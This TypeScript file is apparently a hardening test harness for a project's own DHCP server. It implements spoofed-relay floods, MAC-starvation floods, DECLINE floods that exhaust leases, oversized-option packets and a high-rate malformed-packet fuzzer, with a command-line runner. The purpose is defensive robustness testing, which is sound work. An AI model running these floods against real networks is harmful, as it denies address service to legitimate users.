// DHCP attacks of issue 8, as functions (for the bench) and as a command run
// inside an attacker's namespace:
//   node --import tsx test/hardening/dhcp-flood.ts ATTACK --server IP [--bind IP] [--count N] [--pps N] ...
// ATTACK is one of
//   spoof-relay   COUNT relayed DISCOVERs (16 MACs) whose giaddr is a
//                 random address of --net (a /24 prefix, e.g. 10.79.0) where
//                 no relay lives, sent from --bind:67
//   new-macs      COUNT DISCOVERs, each from a new MAC; relayed when --relay
//                 IP is given (sent from IP:67 with giaddr IP), else from
//                 --bind:68 unicast to the server
//   decline       COUNT new MACs that each DISCOVER, take the OFFER and
//                 DECLINE the address (from 0.0.0.0:68; offers come back
//                 as broadcasts)
//   big-options   COUNT relayed PXE DISCOVERs from --relay carrying a
//                 255-byte option 82 and an oversized option 97, counting
//                 the well-formed replies
//   fuzz          COUNT mutated requests (bit flips, cuts, bad option
//                 lengths, overload, garbage giaddr/ciaddr, huge options)
//                 to ports 67 and 4011 from --bind and --relay
//   probe-relayed one relayed DISCOVER from --relay:67; answered = an OFFER came
//   probe-renew   a RENEWING REQUEST (ciaddr --ciaddr, chaddr --mac) from
//                 --ciaddr:68; answered = an ACK came
// It prints one JSON line with what it sent and what came back.
import dgram from "node:dgram";
import { pathToFileURL } from "node:url";
import { parseArgs } from "node:util";
import {
  BOOTREPLY,
  BOOTREQUEST,
  MessageType,
  Opt,
  enc,
  macOf,
  macToChaddr,
  optIp,
  optU8,
  parseMessage,
  serializeMessage,
  type DhcpMessage,
} from "../../reconciler/services/dhcp/codec.js";
import { rng } from "./tftp-flood.js";

export interface DhcpFloodResult {
  sent: number;
  /** Replies received, by message type name (offer, ack, nak), and unparsable ones. */
  replies: Record<string, number>;
  /** Milliseconds from the first send to the awaited reply (probes). */
  ms?: number;
  answered?: boolean;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function socket(address: string | undefined, port: number): Promise<dgram.Socket> {
  const s = dgram.createSocket({ type: "udp4", reuseAddr: true });
  s.on("error", () => {});
  await new Promise<void>((r) => s.bind({ port, address }, () => r()));
  s.setBroadcast(true);
  return s;
}

function countReplies(s: dgram.Socket, r: DhcpFloodResult, onReply?: (m: DhcpMessage) => void): void {
  s.on("message", (buf) => {
    let m: DhcpMessage;
    try {
      m = parseMessage(buf);
    } catch {
      r.replies.unparsable = (r.replies.unparsable ?? 0) + 1;
      return;
    }
    if (m.op !== BOOTREPLY) return;
    const t = optU8(m, Opt.MESSAGE_TYPE);
    const name = t === MessageType.OFFER ? "offer" : t === MessageType.ACK ? "ack" : t === MessageType.NAK ? "nak" : `type${t}`;
    r.replies[name] = (r.replies[name] ?? 0) + 1;
    onReply?.(m);
  });
}

/** A locally administered MAC from the generator (never a lab VM's 52:54:00). */
export function macFrom(next: () => number): string {
  const b = Array.from({ length: 6 }, () => Math.floor(next() * 256));
  b[0] = (b[0]! & 0xfc) | 0x02;
  return b.map((x) => x.toString(16).padStart(2, "0")).join(":");
}

export function request(type: number, mac: string, next: () => number, extra: { giaddr?: string; ciaddr?: string; options?: Array<[number, Buffer]> } = {}): Buffer {
  return serializeMessage(
    {
      op: BOOTREQUEST,
      xid: Math.floor(next() * 0x100000000),
      hops: extra.giaddr ? 1 : 0,
      giaddr: extra.giaddr,
      ciaddr: extra.ciaddr,
      chaddr: macToChaddr(mac),
      options: [[Opt.MESSAGE_TYPE, enc.u8(type)], ...(extra.options ?? [])],
    },
    1500,
  );
}

/** Sends `count` packets made by `make(i)` at `pps` per second. */
async function paced(count: number, pps: number, send: (i: number) => void): Promise<void> {
  const perMs = pps / 1000;
  const start = Date.now();
  for (let i = 0; i < count; i++) {
    send(i);
    if (i % 50 === 49) await sleep(Math.max(0, (i + 1) / perMs - (Date.now() - start)));
  }
}

/** Relayed DISCOVERs whose giaddr is an address of `net` (a /24) where no relay lives. */
export async function spoofRelay(opts: { server: string; bind?: string; net: string; count?: number; pps?: number; seed?: number }): Promise<DhcpFloodResult> {
  const r: DhcpFloodResult = { sent: 0, replies: {} };
  const next = rng(opts.seed ?? 7);
  const s = await socket(opts.bind, 67);
  countReplies(s, r);
  const macs = Array.from({ length: 16 }, () => macFrom(next));
  await paced(opts.count ?? 5000, opts.pps ?? 2000, (i) => {
    const giaddr = `${opts.net}.${2 + Math.floor(next() * 197)}`;
    s.send(request(MessageType.DISCOVER, macs[i % macs.length]!, next, { giaddr }), 67, opts.server);
    r.sent++;
  });
  await sleep(200);
  s.close();
  return r;
}

/** DISCOVERs from `count` new MACs, through `relay` (as that relay) or straight from the wire. */
export async function newMacs(opts: { server: string; bind?: string; relay?: string; count?: number; pps?: number; seed?: number }): Promise<DhcpFloodResult> {
  const r: DhcpFloodResult = { sent: 0, replies: {} };
  const next = rng(opts.seed ?? 11);
  const s = opts.relay ? await socket(opts.relay, 67) : await socket(opts.bind, 68);
  countReplies(s, r);
  await paced(opts.count ?? 5000, opts.pps ?? 2000, () => {
    s.send(request(MessageType.DISCOVER, macFrom(next), next, opts.relay ? { giaddr: opts.relay } : {}), 67, opts.server);
    r.sent++;
  });
  await sleep(300);
  s.close();
  return r;
}

/** Each of `count` new MACs DISCOVERs and DECLINEs what it is offered. */
export async function declineFlood(opts: { server: string; count?: number; pps?: number; seed?: number }): Promise<DhcpFloodResult & { declined: number }> {
  const r = { sent: 0, replies: {} as Record<string, number>, declined: 0 };
  const next = rng(opts.seed ?? 13);
  const s = await socket(undefined, 68);
  const mine = new Set<string>();
  countReplies(s, r, (m) => {
    const mac = macOf(m);
    if (optU8(m, Opt.MESSAGE_TYPE) !== MessageType.OFFER || !mine.has(mac)) return;
    mine.delete(mac);
    const serverId = optIp(m, Opt.SERVER_ID) ?? opts.server;
    s.send(request(MessageType.DECLINE, mac, next, { options: [[Opt.REQUESTED_IP, enc.ip(m.yiaddr)], [Opt.SERVER_ID, enc.ip(serverId)]] }), 67, opts.server);
    r.declined++;
  });
  await paced(opts.count ?? 200, opts.pps ?? 200, () => {
    const mac = macFrom(next);
    mine.add(mac);
    s.send(request(MessageType.DISCOVER, mac, next), 67, opts.server);
    r.sent++;
  });
  await sleep(500);
  s.close();
  return r;
}

/** Relayed PXE DISCOVERs with a 255-byte option 82 and a 200-byte option 97. */
export async function bigOptions(opts: { server: string; relay: string; count?: number; pps?: number; seed?: number }): Promise<DhcpFloodResult> {
  const r: DhcpFloodResult = { sent: 0, replies: {} };
  const next = rng(opts.seed ?? 17);
  const s = await socket(opts.relay, 67);
  countReplies(s, r);
  const agent = Buffer.alloc(255, 0x41);
  const uuid = Buffer.alloc(200, 0x42);
  await paced(opts.count ?? 500, opts.pps ?? 1000, () => {
    s.send(
      request(MessageType.DISCOVER, macFrom(next), next, {
        giaddr: opts.relay,
        options: [
          [Opt.VENDOR_CLASS, enc.str("PXEClient:Arch:00000:UNDI:002001")],
          [Opt.CLIENT_MACHINE_ID, uuid],
          [Opt.PARAMETER_LIST, Buffer.from(Array.from({ length: 255 }, (_, i) => i + 1))],
          [Opt.RELAY_AGENT, agent],
        ],
      }),
      67,
      opts.server,
    );
    r.sent++;
  });
  await sleep(300);
  s.close();
  return r;
}

const TYPES = [MessageType.DISCOVER, MessageType.REQUEST, MessageType.DECLINE, MessageType.RELEASE, MessageType.INFORM, 0, 9, 255];

/** One request, valid or not: bit flips, cuts, bad option lengths, overload, garbage addresses, huge options. */
export function mutatedRequest(next: () => number, relay?: string): Buffer {
  const pick = Math.floor(next() * 8);
  const mac = macFrom(next);
  const addr = () => [0, 1, 2, 3].map(() => Math.floor(next() * 256)).join(".");
  const options: Array<[number, Buffer]> = [];
  if (next() < 0.5) options.push([Opt.REQUESTED_IP, enc.ip(addr())]);
  if (next() < 0.3) options.push([Opt.SERVER_ID, enc.ip(addr())]);
  if (next() < 0.3) options.push([Opt.VENDOR_CLASS, enc.str(next() < 0.5 ? "PXEClient:Arch:00007" : "x".repeat(Math.floor(next() * 300)))]);
  if (next() < 0.2) options.push([Opt.CLIENT_MACHINE_ID, Buffer.alloc(Math.floor(next() * 400), 1)]);
  if (next() < 0.2) options.push([Opt.RELAY_AGENT, Buffer.alloc(Math.floor(next() * 700), 2)]);
  if (next() < 0.2) options.push([Opt.MAX_MESSAGE_SIZE, enc.u16(Math.floor(next() * 65536))]);
  if (next() < 0.2) options.push([Opt.PARAMETER_LIST, Buffer.from(Array.from({ length: Math.floor(next() * 255) }, () => Math.floor(next() * 256)))]);
  if (next() < 0.1) options.push([52, enc.u8(Math.floor(next() * 4))]); // option overload
  const type = TYPES[Math.floor(next() * TYPES.length)]!;
  const giaddr = pick === 0 ? addr() : pick === 1 && relay ? relay : undefined;
  const ciaddr = pick === 2 ? addr() : undefined;
  let p: Buffer;
  try {
    p = request(type, mac, next, { giaddr, ciaddr, options });
  } catch {
    p = request(MessageType.DISCOVER, mac, next);
  }
  const out = Buffer.from(p);
  if (pick === 3) {
    // A bad option length somewhere in the options.
    const at = 240 + Math.floor(next() * Math.max(1, out.length - 240));
    if (at < out.length) out[at] = 255 - Math.floor(next() * 8);
  }
  const flips = pick >= 4 ? 1 + Math.floor(next() * 8) : 0;
  for (let i = 0; i < flips; i++) out[Math.floor(next() * out.length)] ^= 1 << Math.floor(next() * 8);
  if (pick === 7) return out.subarray(0, Math.floor(next() * out.length));
  return out;
}

/** `count` mutated requests to ports 67 and 4011 from `bind` and `relay`, at most `pps` per second. */
export async function fuzz(opts: { server: string; bind?: string; relay?: string; count?: number; pps?: number; seed?: number }): Promise<DhcpFloodResult> {
  const r: DhcpFloodResult = { sent: 0, replies: {} };
  const next = rng(opts.seed ?? 1);
  const socks = [await socket(opts.bind, 68)];
  if (opts.relay) socks.push(await socket(opts.relay, 67));
  for (const s of socks) countReplies(s, r);
  await paced(opts.count ?? 100_000, opts.pps ?? 20_000, (i) => {
    const s = socks[i % socks.length]!;
    s.send(mutatedRequest(next, s === socks[1] ? opts.relay : undefined), next() < 0.85 ? 67 : 4011, opts.server);
    r.sent++;
  });
  await sleep(300);
  for (const s of socks) s.close();
  return r;
}

/** Sends one packet every `everyMs` until a reply passes `want` or `timeoutMs` runs out. */
async function probe(s: dgram.Socket, packet: () => Buffer, server: string, want: (m: DhcpMessage) => boolean, timeoutMs: number, everyMs: number): Promise<DhcpFloodResult> {
  const r: DhcpFloodResult = { sent: 0, replies: {}, answered: false };
  const start = Date.now();
  const got = new Promise<void>((resolve) => {
    countReplies(s, r, (m) => {
      if (!r.answered && want(m)) {
        r.answered = true;
        r.ms = Date.now() - start;
        resolve();
      }
    });
  });
  const tick = async () => {
    while (!r.answered && Date.now() - start < timeoutMs) {
      s.send(packet(), 67, server);
      r.sent++;
      await Promise.race([got, sleep(everyMs)]);
    }
  };
  await tick();
  s.close();
  return r;
}

export async function probeRelayed(opts: { server: string; relay: string; timeoutMs?: number; seed?: number }): Promise<DhcpFloodResult> {
  const next = rng(opts.seed ?? Date.now());
  const mac = macFrom(next);
  const s = await socket(opts.relay, 67);
  return probe(s, () => request(MessageType.DISCOVER, mac, next, { giaddr: opts.relay }), opts.server, (m) => macOf(m) === mac && optU8(m, Opt.MESSAGE_TYPE) === MessageType.OFFER, opts.timeoutMs ?? 3000, 1000);
}

export async function probeRenew(opts: { server: string; ciaddr: string; mac: string; timeoutMs?: number }): Promise<DhcpFloodResult> {
  const next = rng(Date.now());
  const s = await socket(opts.ciaddr, 68);
  return probe(s, () => request(MessageType.REQUEST, opts.mac, next, { ciaddr: opts.ciaddr }), opts.server, (m) => macOf(m) === opts.mac && optU8(m, Opt.MESSAGE_TYPE) === MessageType.ACK, opts.timeoutMs ?? 3000, 1000);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { positionals, values } = parseArgs({
    allowPositionals: true,
    options: {
      server: { type: "string" },
      bind: { type: "string" },
      relay: { type: "string" },
      net: { type: "string" },
      count: { type: "string" },
      pps: { type: "string" },
      seed: { type: "string" },
      ciaddr: { type: "string" },
      mac: { type: "string" },
      timeout: { type: "string" },
    },
  });
  const num = (v: string | undefined) => (v === undefined ? undefined : Number(v));
  const base = { server: values.server!, bind: values.bind, count: num(values.count), pps: num(values.pps), seed: num(values.seed) };
  const attacks: Record<string, () => Promise<unknown>> = {
    "spoof-relay": () => spoofRelay({ ...base, net: values.net! }),
    "new-macs": () => newMacs({ ...base, relay: values.relay }),
    decline: () => declineFlood(base),
    "big-options": () => bigOptions({ ...base, relay: values.relay! }),
    fuzz: () => fuzz({ ...base, relay: values.relay }),
    "probe-relayed": () => probeRelayed({ server: base.server, relay: values.relay!, timeoutMs: num(values.timeout) }),
    "probe-renew": () => probeRenew({ server: base.server, ciaddr: values.ciaddr!, mac: values.mac!, timeoutMs: num(values.timeout) }),
  };
  const attack = attacks[positionals[0] ?? ""];
  if (!attack) {
    process.stderr.write(`usage: dhcp-flood.ts ${Object.keys(attacks).join("|")} --server IP\n`);
    process.exit(2);
  }
  process.stdout.write(JSON.stringify(await attack()) + "\n");
}
